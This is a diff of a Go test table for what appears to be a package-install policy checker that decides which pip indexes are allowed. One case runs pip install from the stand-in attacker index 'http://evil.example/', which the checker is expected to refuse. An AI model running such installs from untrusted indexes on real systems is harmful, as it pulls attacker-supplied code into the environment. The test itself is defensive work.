@@ -43,7 +43,7 @@ packages:
 		{"*", "", "packages", 0, "is not the name of a package", ""},
 		{"scipy", "pip install -i https://packages.example.org/simple scipy", "packages", 4, "allowed", ""},
 		{"scipy", "subprocess.run(['pip', 'install', '--index-url', 'http://evil.example/', 'scipy'])", "packages.indexes", 6, "installing from http://evil.example/ is refused", "packages: {indexes: [default, \"http://evil.example/\"]}"},
-		{"scipy", "pip install --extra-index-url=https://other.example/index scipy", "packages.indexes", 6, "https://other.example/index", ""},
+		{"scipy", "pip install --extra-index-url='https://other.example/index' scipy", "packages.indexes", 6, "https://other.example/index", ""},
 	} {
 		f := quiet()
 		f.Installs = []interlock.Install{{Packages: []string{c.words}, Text: c.text, Pos: at(2)}}
